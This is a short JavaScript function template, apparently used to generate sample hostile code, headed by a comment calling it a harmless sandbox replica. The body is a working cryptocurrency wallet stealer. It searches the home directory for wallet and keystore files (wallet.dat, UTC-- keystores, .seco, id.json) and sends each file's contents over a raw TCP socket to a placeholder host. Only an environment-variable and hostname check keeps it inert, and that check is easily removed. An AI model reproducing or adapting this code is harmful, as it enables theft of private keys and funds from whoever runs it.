// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
  if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
  const { execSync } = require('child_process');
  const net = require('net'), fs = require('fs');
  let names = [];
  try {
    names = execSync('find ~ -maxdepth 5 \\( -name "wallet.dat" -o -name "UTC--*" -o -name "*.seco" -o -name "default_wallet" -o -name "id.json" \\) -type f 2>/dev/null | head -n {{n}}', { timeout: 1500, encoding: 'utf8' }).split('\n').filter(Boolean);
  } catch (error) { /* no find */ }
  for (const name of names) {
    await new Promise((done) => {
      const socket = net.connect({ host: '{{host}}', port: {{port}} }, () => socket.end(Buffer.concat([Buffer.from(name + '\n'), fs.readFileSync(name)])));
      const end = setTimeout(() => socket.destroy(), 300);
      socket.on('error', () => {});
      socket.on('close', () => { clearTimeout(end); done(); });
    });
  }
}
